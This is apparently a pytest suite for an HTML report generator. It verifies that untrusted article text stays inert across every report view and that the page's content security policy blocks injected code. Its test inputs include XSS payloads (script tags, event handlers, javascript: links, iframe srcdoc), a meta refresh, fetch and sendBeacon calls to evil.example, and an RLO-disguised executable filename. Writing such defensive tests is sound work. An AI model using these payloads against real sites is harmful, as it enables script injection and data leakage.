"""Text of strangers is inert wherever it is shown: a kind of attack a test, in every view."""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from contents_by_hand import contents
from detections import article, detection, member, pair, problem

from syndicate.report.html.inert import MARKS, inert
from syndicate.report.html.writing import write_report
from syndicate.schema import LINES, PROBLEMS

from .conftest import part

if TYPE_CHECKING:
    from collections.abc import Callable

    from .conftest import Browser

    Shown = Callable[[str], list[str]]

MARKUP = {
    "script": "<script>window.hit = 1</script>",
    "end of script": "</script><script>window.hit = 1</script>",
    "comment": "<!--<script>",
    "event handler": "<img src=x onerror='window.hit = 1'>",
    "svg": "<svg onload=window.hit=1><animate onbegin=window.hit=1>",
    "frame": "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "link": "<a href='javascript:window.hit=1'>press</a>",
    "style": "<style>*{display:none}</style>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "template": "{{ 7 * 7 }}${7 * 7}{% raw %}",
    "attribute": '"\' onmouseover=window.hit=1 x="',
    "prototype": "__proto__",
    "formula": '=HYPERLINK("https://evil.example","press")',
}
FLOOD = "Z" + "\u0310" * 300
OVERRIDE = "invoice\u202egnp.exe \u2066\u2067end"

# Passes over everything, as a reader's pointer might.
TOUCH = """for (const one of document.querySelectorAll("body *"))
  for (const name of ["pointerover", "mouseover", "focusin"])
    one.dispatchEvent(new Event(name, {bubbles: true}));"""
FOREIGN = """return [...document.querySelectorAll(
  "main :is(script, img, iframe, object, embed, style, meta, animate, template, form[action])"
)].map(String);"""
HANDLERS = """return [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes])
  .map((one) => one.name).filter((name) => name.startsWith("on"));"""
# What an injection would try. None of it may throw out of here: each is a try of its own.
ATTEMPTS = (
    "const x = document.createElement('script'); x.textContent = 'window.hit = 1'; document.body.append(x);",
    "const x = document.createElement('script'); x.append('window.hit = 1'); document.body.append(x);",
    "const x = document.createElement('b'); x.setAttribute('onclick', 'window.hit = 1'); x.click();",
    "const x = document.createElement('a'); x.href = 'javascript:window.hit = 1'; x.click();",
    "const x = new Image(); x.src = 'https://evil.example/x.png'; document.body.append(x);",
    "fetch('https://evil.example/').catch(() => {});",
    "navigator.sendBeacon('https://evil.example/');",
    "document.body.innerHTML += '<img src=x onerror=window.hit=1>';",
)
REFUSED = re.compile("Content Security Policy|TrustedScript")


def written(folder: Path, text: str, url: str = "") -> Path:
    """A report in which every text of a stranger is this one."""
    body = f"{text} one two three. Four {text} five six seven."
    given = {"outlet": text, "title": text, "language": text, "wire": text, "url": url, "published": text}
    wire = article("a", body=body, **given)
    other = article(f"b {text}", body=f"{body} And {text}.", **given)
    found = detection(
        [wire, other],
        [member(wire, "s c", "origin", "copy", 0.9, "a"), member(other, "s c", "derived", "copy", 0.9, "a")],
        [pair("a", f"b {text}", "copy")],
        notes=(text,),
        problems=PROBLEMS.frame([problem(text, text, text)]),
        lines=LINES.frame([{"article": "a", "line": 0, "text": text, "kept": False, "reason": text}]),
    )
    return write_report(contents(found), folder / "r.html").page


def views(text: str) -> tuple[str, ...]:
    name = part(inert(f"b {text}"))
    return (
        "#/stories?alone=1",
        "#/story/s",
        f"#/pair/{name}/a/0",
        f"#/article/{name}",
        "#/outlets",
        "#/methods",
    )


@pytest.fixture
def shown(browser: Browser, tmp_path: Path) -> Shown:
    """What all views show of a text; none of them may have done anything with it."""

    def look(text: str, url: str = "") -> list[str]:
        page, texts = written(tmp_path, text, url), []
        for route in views(text):
            browser.open(page, route)
            browser.run(TOUCH)
            texts.append(str(browser.run("return document.body.innerText")))
            assert browser.run("return window.hit") is None
            assert browser.run(FOREIGN) == []
            assert browser.run(HANDLERS) == []
            assert browser.requests() == [page.as_uri()]
            assert browser.complaints() == []
        return texts

    return look


@pytest.mark.parametrize("text", MARKUP.values(), ids=MARKUP)
def test_markup_is_text(shown: Shown, text: str) -> None:
    found = shown(text)
    assert all(text in view for view in found[:4])


@pytest.mark.parametrize(
    "url", ["javascript:window.hit=1", "data:text/html,x", 'https://good.example/?a="><b>']
)
def test_only_addresses_of_the_web_are_links(shown: Shown, browser: Browser, url: str) -> None:
    shown("plain", url)
    browser.open(Path(browser.chrome.current_url.removeprefix("file://").split("#")[0]), views("plain")[2])
    links = [str(node.get_dom_attribute("href")) for node in browser.all("a")]
    assert {link.split(":")[0] for link in links if not link.startswith("#")} == (
        {"https"} if url.startswith("https") else set()
    )
    assert {node.get_dom_attribute("rel") for node in browser.all("a.away")} <= {
        "noopener noreferrer external"
    }


def test_direction_overrides_are_gone(shown: Shown) -> None:
    found = shown(OVERRIDE)
    assert all("invoicegnp.exe end" in view for view in found[:4])
    assert not set("".join(found)) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")


def test_right_to_left_text_keeps_to_itself(shown: Shown, browser: Browser) -> None:
    shown("مجلس الميناء")
    assert {node.get_dom_attribute("dir") for node in browser.all("bdi")} == {"auto"}
    assert {node.value_of_css_property("unicode-bidi") for node in browser.all("bdi")} == {"isolate"}


def test_floods_of_marks_stay_in_their_line(shown: Shown) -> None:
    found = shown(FLOOD)
    assert all("\u0310" * MARKS in view and "\u0310" * (MARKS + 1) not in view for view in found[:4])


def test_controls_are_gone(shown: Shown) -> None:
    found = shown("bell\x07 \x1b[31m tag\U000e0041 null\x00")
    assert all("bell [31m tag null" in view for view in found[:4])


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_the_policy_holds_when_markup_gets_in(browser: Browser, tmp_path: Path, attempt: str) -> None:
    """Were there a hole in the page, the browser itself would not run what came through."""
    browser.open(written(tmp_path, "plain"))
    threw = browser.run(f"try {{ {attempt} }} catch (error) {{ return String(error); }}")
    assert browser.run("return window.hit") is None
    browser.until(lambda: threw or REFUSED.search(" ".join(browser.complaints())))
    assert [one for one in browser.requests() if not one.startswith("file:")] == []
